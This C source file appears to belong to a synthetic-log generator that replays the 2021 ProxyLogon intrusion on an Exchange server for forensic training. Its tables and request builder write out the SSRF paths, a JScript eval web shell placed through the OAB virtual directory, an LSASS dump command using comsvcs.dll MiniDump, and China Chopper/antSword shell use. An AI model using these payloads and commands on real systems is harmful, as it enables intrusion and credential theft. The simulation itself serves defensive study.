/*
 * exgen: the ProxyLogon intrusion and the security update.  The timeline of the
 * March 2021 attack (the sample server's, the same in every seed; a fleet host
 * gets it shifted, with its own names and addresses), the later use of its shells
 * after an update, and the log lines each step writes.  The update itself (IIS
 * restart, logs rolled over to the new build) is emit_patch.
 */
#include "exgen.h"

#include <stdio.h>

enum { AK_IIS, AK_SSRF, AK_PATCH };
enum { SS_AUTOD = 1, SS_MAPI, SS_LOGON, SS_GET, SS_SET, SS_RESET };

typedef struct {
	unsigned mo, d, h, mi, s, ms; /* 2021, UTC */
	int kind, ssrf, ua, status;
	int actor;      /* index into Plan.actor, -1: ip */
	const char *ip; /* a mass scanner's address */
	const char *method, *stem, *query, *stage, *desc;
	uint32_t tt;
} Atk;

static const char *const SSRF_PATH[] = {
    "",
    "/autodiscover/autodiscover.xml?#",
    "/mapi/emsmdb/?#",
    "/ecp/proxyLogon.ecp?#",
    "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory#",
    "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory#",
    "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" ATK_CANARY "&schema=ResetOABVirtualDirectory#",
};
static const char *const SSRF_BE_STEM[] = {"", "/autodiscover/autodiscover.xml", "/mapi/emsmdb/",
                                           "/ecp/proxyLogon.ecp", "/ecp/DDI/DDIService.svc/GetObject",
                                           "/ecp/DDI/DDIService.svc/SetObject",
                                           "/ecp/DDI/DDIService.svc/SetObject"};
static const char *const SSRF_BE_QUERY[] = {"", "", "", "",
                                            "msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory",
                                            "msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory",
                                            "msExchEcpCanary=" ATK_CANARY "&schema=ResetOABVirtualDirectory"};
#define SHELL1_UNC_T                                                           \
	"\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\"      \
	"FrontEnd\\HttpProxy\\owa\\auth\\{S1}.aspx"

#define IISA(mo_, d_, h_, mi_, s_, ms_, act_, ua_, m_, stem_, q_, st_, tt_, stage_, desc_)                  \
	{(mo_), (d_), (h_), (mi_), (s_), (ms_), AK_IIS, 0, (ua_), (st_), (act_), NULL, (m_), (stem_), (q_), (stage_), \
	 (desc_), (tt_)}
#define SSRFA(mo_, d_, h_, mi_, s_, ms_, ss_, ua_, st_, tt_, stage_, desc_)                                    \
	{(mo_), (d_), (h_), (mi_), (s_), (ms_), AK_SSRF, (ss_), (ua_), (st_), 0, NULL, "POST", "/ecp/y.js", "",      \
	 (stage_), (desc_), (tt_)}
#define SCAN(d_, h_, mi_, s_, ip_, ua_, stem_)                                                                 \
	{3, (d_), (h_), (mi_), (s_), 0, AK_IIS, 0, (ua_), 404, -1, (ip_), "GET", (stem_), "", "scan",              \
	 "mass scanner probes for a known web shell", 15}

static const Atk ATK[] = {
    IISA(3, 3, 5, 37, 12, 412, 0, UA_BAIDU, "POST", "/owa/auth/Current/themes/resources/logon.css", "", 200, 46,
         "recon", "POST to a static OWA file with a Baiduspider user agent"),
    IISA(3, 3, 5, 37, 48, 930, 0, UA_BAIDU, "POST", "/owa/auth/Current/themes/resources/logon.css", "", 200, 31,
         "recon", "POST to a static OWA file with a Baiduspider user agent"),
    SSRFA(3, 3, 6, 49, 42, 162, SS_AUTOD, UA_ESC0, 200, 187, "ssrf",
          "CVE-2021-26855 SSRF to /autodiscover/autodiscover.xml (legacyDN disclosure)"),
    SSRFA(3, 3, 6, 49, 43, 540, SS_MAPI, UA_PYREQ, 200, 96, "ssrf", "CVE-2021-26855 SSRF to /mapi/emsmdb (SID disclosure)"),
    SSRFA(3, 3, 6, 49, 46, 71, SS_LOGON, UA_PYREQ, 241, 142, "ssrf",
          "CVE-2021-26855 SSRF to /ecp/proxyLogon.ecp (ECP session as administrator)"),
    SSRFA(3, 3, 6, 49, 51, 318, SS_GET, UA_PYREQ, 200, 531, "oab-abuse",
          "DDIService GetObject OABVirtualDirectory via SSRF"),
    SSRFA(3, 3, 6, 49, 53, 806, SS_SET, UA_PYREQ, 200, 1204, "oab-abuse",
          "CVE-2021-27065: Set-OabVirtualDirectory ExternalUrl with JScript web shell"),
    SSRFA(3, 3, 6, 59, 20, 245, SS_RESET, UA_PYREQ, 200, 2350, "webshell-drop",
          "CVE-2021-27065: Reset-OabVirtualDirectory writes the web shell to owa\\auth"),
    IISA(3, 3, 7, 2, 14, 620, 0, UA_PYREQ, "POST", "/owa/auth/{S1}.aspx", "", 200, 78, "webshell-use",
         "POST to the OAB web shell"),
    IISA(3, 3, 7, 5, 33, 107, 0, UA_PYREQ, "POST", "/owa/auth/{S1}.aspx", "", 200, 112, "webshell-use",
         "POST to the OAB web shell (writes the China Chopper shell in aspnet_client)"),
    IISA(3, 3, 7, 11, 2, 883, 0, UA_PYREQ, "POST", "/owa/auth/{S1}.aspx", "", 200, 65, "webshell-use",
         "POST to the OAB web shell"),
    IISA(3, 3, 7, 13, 40, 2, 0, UA_FIREFOX, "GET", "/aspnet_client/system_web/{S2}.aspx", "cmd=whoami", 200,
         203, "webshell-use", "web shell command: whoami"),
    IISA(3, 3, 7, 15, 5, 517, 0, UA_FIREFOX, "GET", "/aspnet_client/system_web/{S2}.aspx",
         "cmd=powershell+rundll32.exe+C:\\windows\\System32\\comsvcs.dll+MiniDump+" LSASS_PID
         "+C:\\windows\\temp\\lsass.dmp+full",
         200, 4518, "credential-access", "web shell command: LSASS dump with comsvcs.dll MiniDump"),
    IISA(3, 3, 7, 21, 48, 266, 0, UA_FIREFOX, "GET", "/aspnet_client/system_web/{S2}.aspx",
         "cmd=C:\\ProgramData\\VSPerfMon\\7za.exe+a+C:\\ProgramData\\VSPerfMon\\a.7z+C:\\windows\\temp\\lsass.dmp",
         200, 2764, "collection", "web shell command: archive the dump to C:\\ProgramData\\VSPerfMon\\a.7z"),
    IISA(3, 4, 8, 14, 9, 351, 1, UA_FF68, "GET", "/owa/auth/{S1}.aspx", "", 200, 41, "second-actor",
         "second actor checks the OAB web shell"),
    IISA(3, 4, 8, 14, 31, 790, 1, UA_ANTSWORD, "POST", "/aspnet_client/system_web/{S2}.aspx", "", 200, 188,
         "second-actor", "second actor uses the China Chopper shell with antSword"),
    {3, 5, 21, 40, 0, 0, AK_PATCH, 0, UA_NONE, 0, -1, "", "", "", "", "patch",
     "security update installed, build 15.1.2176.9, IIS restarted", 0},
    SCAN(8, 2, 13, 55, "45.77.252.175", UA_PYREQ, "/owa/auth/errorEE.aspx"),
    SCAN(8, 2, 13, 56, "45.77.252.175", UA_PYREQ, "/aspnet_client/xx.aspx"),
    SCAN(8, 14, 40, 3, "194.87.69.35", UA_GO, "/owa/auth/shell.aspx"),
    SCAN(9, 4, 2, 17, "103.77.192.219", UA_OLDFF, "/owa/auth/errorEE.aspx"),
    SCAN(9, 4, 2, 18, "103.77.192.219", UA_OLDFF, "/owa/auth/shell.aspx"),
    SCAN(9, 19, 31, 44, "185.220.101.46", UA_CURL, "/aspnet_client/xx.aspx"),
    SCAN(10, 0, 55, 9, "161.35.45.41", UA_PYREQ, "/owa/auth/shell.aspx"),
    SCAN(10, 11, 8, 30, "45.77.252.175", UA_PYREQ, "/owa/auth/errorEE.aspx"),
    SCAN(11, 6, 21, 12, "89.34.111.11", UA_ZGRAB, "/aspnet_client/xx.aspx"),
    SCAN(11, 6, 21, 13, "89.34.111.11", UA_ZGRAB, "/owa/auth/errorEE.aspx"),
    SCAN(12, 3, 47, 58, "194.87.69.35", UA_GO, "/owa/auth/shell.aspx"),
    SCAN(12, 16, 2, 40, "5.2.69.50", UA_PYREQ, "/aspnet_client/xx.aspx"),
};
#define NATK ((int)(sizeof ATK / sizeof ATK[0]))

/* After an update the shells stay: their later use, seconds after the first of it
 * (mo, d, h: days, hours; mi, s as usual; ms unused). */
#define LATE(d_, h_, mi_, s_, act_, ua_, m_, stem_, q_, tt_, desc_)                                           \
	{0, (d_), (h_), (mi_), (s_), 0, AK_IIS, 0, (ua_), 200, (act_), NULL, (m_), (stem_), (q_), "webshell-use", \
	 (desc_), (tt_)}
static const Atk LATE_USE[] = {
    LATE(0, 0, 0, 0, 1, UA_ANTSWORD, "POST", "/aspnet_client/system_web/{S2}.aspx", "", 171,
         "China Chopper shell used with antSword after the security update"),
    LATE(0, 0, 0, 38, 1, UA_ANTSWORD, "POST", "/aspnet_client/system_web/{S2}.aspx", "", 96,
         "China Chopper shell used with antSword after the security update"),
    LATE(1, 3, 12, 9, 1, UA_FF68, "GET", "/aspnet_client/system_web/{S2}.aspx", "cmd=whoami", 188,
         "web shell command after the security update: whoami"),
    LATE(2, 5, 41, 27, 0, UA_PYREQ, "POST", "/owa/auth/{S1}.aspx", "", 83,
         "POST to the OAB web shell after the security update"),
    LATE(6, 1, 7, 55, 1, UA_ANTSWORD, "POST", "/aspnet_client/system_web/{S2}.aspx", "", 140,
         "China Chopper shell used with antSword after the security update"),
};
#define NLATE ((int)(sizeof LATE_USE / sizeof LATE_USE[0]))

static int64_t atk_time(const Atk *a) { return ms_at(2021, a->mo, a->d, a->h, a->mi, a->s, a->ms); }

int64_t pl_time(const Gen *g, int idx) { return atk_time(&ATK[idx]) + g->plan.pl_shift; }

/* The table's steps, shifted; with_patch keeps its update row (the sample server).
 * Returns the time of the first successful SSRF. */
int64_t pl_plan(Gen *g, int64_t shift, bool with_patch)
{
	int64_t first = -1;
	g->plan.pl_shift = shift;
	for (int i = 0; i < NATK; i++) {
		if (ATK[i].kind == AK_PATCH && !with_patch)
			continue;
		int64_t t = atk_time(&ATK[i]) + shift;
		plan_add(&g->plan, t, CAMP_PL, i, ATK[i].actor < 0 ? 0 : ATK[i].actor, 0);
		if (first < 0 && ATK[i].kind == AK_SSRF && ATK[i].status < 400)
			first = t;
	}
	return first;
}

/* The shells used again from `from` on (after an update, or once the logs begin). */
void pl_plan_late(Gen *g, int64_t from, int actor)
{
	for (int i = 0; i < NLATE; i++) {
		const Atk *a = &LATE_USE[i];
		int64_t t = from + a->d * MS_DAY + a->h * MS_HOUR + a->mi * 60000LL + a->s * 1000LL + (int64_t)(i * 137 % 1000);
		plan_add(&g->plan, t, CAMP_PL, i, (a->actor + actor) % 6, 1);
	}
}

/* The security update at t: services restart, IIS writes fresh header blocks,
 * Exchange rolls its logs over to the new build.  The timeline points at the
 * "#Software" line of each new header block. */
void emit_patch(Gen *g, int64_t t)
{
	snprintf(g->plan.patch_desc, sizeof g->plan.patch_desc, "security update installed, build %s, IIS restarted",
	         g->h.b[1].dotted);
	Event ev = {"patch", g->plan.patch_desc, ""};
	g->cur = &ev;
	g->patched = true;
	if (g->want_iis) {
		for (int be = 0; be < 2; be++) {
			Out *o = be ? &g->o_iis2 : &g->o_iis1;
			if (o->f) {
				const FileRec *r0 = &g->recs[o->rec];
				tl_push(g, o->rec, r0->data + r0->hdr + 1, t);
				iis_header(g, o, t, be ? 0 : g->iis1_fields);
			} else {
				iis_out(g, be, t); /* first log of the day: its header is the restart */
				tl_push(g, o->rec, 1, t);
			}
		}
	}
	for (int p = 0; p < P_N; p++)
		out_close(&g->o_hp[p]);
	out_close(&g->o_rps);
	out_close(&g->o_rpsh);
	g->hp_gen = 2;
	g->cur = NULL;
}

/* A step's request with its defaults; its ids come from the time (same in every seed). */
void attack_req(const Gen *g, Req *q, const Step *s, int64_t t)
{
	Rng r;
	rng_seed(&r, s->camp == CAMP_PL && s->arg == 0 ? mix3(0xA77AC4, (uint64_t)t, 7)
	                                              : mix3(0xA77AC4 + s->camp * 16 + s->arg, (uint64_t)t, 7 + s->idx));
	req_init(g, q, &r, t);
}

void pl_emit(Gen *g, const Step *s)
{
	const Atk *a = s->arg ? &LATE_USE[s->idx] : &ATK[s->idx];
	int64_t at = s->t;
	if (a->kind == AK_PATCH) {
		emit_patch(g, at);
		return;
	}
	const char *ip = a->actor < 0 ? a->ip : g->plan.actor[s->arg ? s->actor : a->actor];
	Event ev = {a->stage, a->desc, ip};
	Req q;
	char stem[128], cmd[512];
	attack_req(g, &q, s, at);
	g->cur = &ev;
	q.cip = sz(ip);
	q.method = a->method;
	q.stem = tmpl(g, stem, sizeof stem, a->stem);
	q.query = sz(a->query);
	q.ua = a->ua;
	q.status = a->status;
	q.win32 = a->status == 404 ? 2 : 0;
	q.tt = a->tt;
	if (a->kind == AK_SSRF) {
		q.proxied = true;
		q.proto = P_ECP;
		q.backend = true;
		q.be_stem = sz(SSRF_BE_STEM[a->ssrf]);
		q.be_user = a->ssrf >= SS_GET ? SL("CONTOSO\\Administrator") : g->h.s_machine;
		q.anchor = BCAT(q.b_anchor, SL("ServerInfo~a]@"), g->h.s_fqdn, SL(":444"), sz(SSRF_PATH[a->ssrf]));
		q.target = BCAT(q.b_target, SL("a]@"), g->h.s_fqdn, SL(":444"), sz(SSRF_PATH[a->ssrf]));
		q.rhint = SL("X-BEResource-Cookie");
		q.rtype = S0;
		q.be_status = a->status;
		q.req_bytes = a->ssrf >= SS_SET ? 2100 : 412;
		q.resp_bytes = a->ssrf == SS_AUTOD ? 4130 : 1022;
		if (a->ssrf >= SS_GET) {
			q.ecp = true;
			q.ecp_url = BCAT(q.b_url, sz(SSRF_BE_STEM[a->ssrf]), SL("?"), sz(SSRF_BE_QUERY[a->ssrf]));
			if (a->ssrf == SS_GET)
				q.ecp_cmd = SL("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null");
			else if (a->ssrf == SS_SET)
				q.ecp_cmd = tmpl(g, cmd, sizeof cmd,
				                 "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
				                 "runat=\"server\">function Page_Load(){eval(Request[\"{P1}\"],\"unsafe\");}</script>'"
				                 ".Identity='" OABVD_GUID "'");
			else
				q.ecp_cmd = tmpl(g, cmd, sizeof cmd,
				                 "Reset-OabVirtualDirectory.Identity='" OABVD_GUID "'.FilePathName='" SHELL1_UNC_T "'");
		}
		/* In the back end the SSRF target keeps its own query string. */
		if (g->want_iis) {
			write_iis(g, &q, false, false);
			Req b = q;
			b.query = sz(SSRF_BE_QUERY[a->ssrf]);
			write_iis(g, &b, true, false);
		}
		if (g->want_hp)
			write_hp(g, &q, false);
		if (g->want_misc && q.ecp)
			write_ecp(g, &q);
		if (g->want_misc && a->ssrf == SS_RESET) {
			char msg[512];
			write_oab(g, at + 1187, "Warning",
			          tmpl(g, msg, sizeof msg, "Download failed and temporary file '" SHELL1_UNC_T "' needs to be removed"));
		}
	} else if (g->want_iis) {
		write_iis(g, &q, false, false);
	}
	g->last_t = at;
	g->cur = NULL;
}

/* A later campaign's table from base: its steps (arg: a variant, for the step's key),
 * its page and the time a row writes it; returns the first success's time, -1 if none. */
int64_t cstep_plan(Gen *g, const Campaign *c, int camp, int64_t base, int arg)
{
	int64_t first = -1;
	const CStep *tab = c->tab;
	if (c->page.desc) {
		g->plan.shell_dir = c->page.dir;
		g->plan.shell_pst = c->page.pst;
		g->plan.shell_desc = c->page.desc;
		g->plan.shell_rule = c->page.rule;
	}
	for (int i = 0; i < c->n; i++) {
		int64_t t = base + (int64_t)tab[i].off * 1000 + (int64_t)(i * 211 % 1000);
		plan_add(&g->plan, t, camp, i, tab[i].actor, arg);
		if ((tab[i].flags & CS_FIRST) && first < 0)
			first = t;
		if (tab[i].flags & CS_SHELL)
			g->plan.shell_t = t + 20000;
	}
	return first;
}

/* One request of a later campaign: front-end IIS, the back end's copy with its own
 * query, HttpProxy, Rps_Http for remote PowerShell, and the cmdlet it ran. */
void cstep_emit(Gen *g, const Campaign *cp, const Step *s)
{
	const CStep *c = &cp->tab[s->idx % cp->n];
	const char *ip = g->plan.actor[s->actor % 6];
	Event ev = {c->stage, c->desc, ip};
	Req q;
	char stem[256], query[768], bes[256], beq[768], par[1024], sid[80];
	const User *v = &g->users[g->plan.victim % NUSERS];
	ps_cat(g); /* the X-Rps-CAT token, once the host's SIDs exist */
	attack_req(g, &q, s, s->t);
	g->cur = &ev;
	q.cip = sz(ip);
	q.method = c->method;
	q.stem = tmpl(g, stem, sizeof stem, c->stem);
	q.query = c->query && !(c->flags & CS_ANCHOR) ? tmpl(g, query, sizeof query, c->query) : S0;
	q.ua = c->ua;
	q.status = c->status;
	q.win32 = c->status == 404 ? 2 : 0;
	q.tt = c->tt;
	q.req_bytes = 600 + (uint32_t)(q.aux % 3000);
	q.resp_bytes = c->status == 200 ? 900 + (uint32_t)(q.aux >> 40) % 9000 : 300;
	if (c->flags & CS_AUTH) {
		q.iis_user = sz(v->dom);
		q.hp_user = q.iis_user;
		q.isauth = true;
		q.authtype = SL("Basic");
	}
	Str be_query = S0;
	if (c->proto < P_N) {
		q.proxied = true;
		q.proto = c->proto;
		if (!c->be_stem) { /* answered by the front end */
			q.target = S0;
			q.rtype = S0;
		}
		if (c->flags & CS_ANCHOR) { /* a ProxyLogon SSRF request the updated server refused */
			q.anchor = tmpl(g, query, sizeof query, c->query);
			q.rhint = SL("X-BEResource-Cookie");
			q.errcode = SL("ServerNotFound");
		}
	}
	if (c->be_stem) {
		q.backend = true;
		q.be_stem = tmpl(g, bes, sizeof bes, c->be_stem);
		be_query = c->be_query ? tmpl(g, beq, sizeof beq, c->be_query) : S0;
		q.be_user = (c->flags & CS_BE_ADMIN) ? SL("CONTOSO\\Administrator") : (c->flags & CS_AUTH) ? sz(v->dom)
		                                                                                        : g->h.s_machine;
		q.be_status = c->status;
	}
	if (g->want_iis) {
		write_iis(g, &q, false, false);
		if (q.backend) {
			Req b = q;
			b.query = be_query;
			write_iis(g, &b, true, false);
		}
	}
	if (g->want_hp && q.proxied)
		write_hp(g, &q, false);
	if (g->want_rpsh && q.backend && (c->flags & CS_RPSH)) {
		Req b = q;
		b.query = be_query;
		write_rpsh(g, &b, q.be_user, g->ua_hp[c->ua]);
	}
	if (g->want_misc && c->cmdlet) {
		Rng r;
		rng_seed(&r, mix3(g->seed, (uint64_t)s->t, 0xC3D));
		if (c->flags & CS_BE_ADMIN)
			snprintf(sid, sizeof sid, "%s-500", g->domsid);
		else
			snprintf(sid, sizeof sid, "%s", v->sid);
		rps_cmdlet(g, s->t + 150, &r, c->cmdlet, tmpl(g, par, sizeof par, c->params), q.be_user, sz(sid));
	}
	g->last_t = s->t;
	g->cur = NULL;
}
